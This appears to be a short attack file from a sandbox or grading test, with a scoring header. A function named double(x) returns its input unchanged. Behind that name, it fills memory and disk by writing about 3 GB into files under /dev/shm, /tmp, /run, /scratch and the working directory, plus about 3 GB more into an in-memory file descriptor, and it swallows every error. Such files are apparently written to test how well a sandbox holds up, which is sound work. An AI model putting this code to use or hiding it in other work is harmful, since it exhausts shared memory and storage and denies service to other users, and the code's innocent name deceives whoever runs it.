# attack: fills the memory with files that lie in memory
# points: double=0 total=4
# %% double
import mmap, os
def double(x):
    chunk = b"\1" * (1 << 20)
    for folder in ("/dev/shm", "/tmp", os.getcwd(), "/run", "/scratch"):
        try:
            with open(f"{folder}/large", "wb", 0) as file:
                for _ in range(3000):
                    file.write(chunk)
        except OSError:
            pass
    descriptor = os.memfd_create("large")
    try:
        for _ in range(3000):
            os.write(descriptor, chunk)
    except OSError:
        pass
    return x
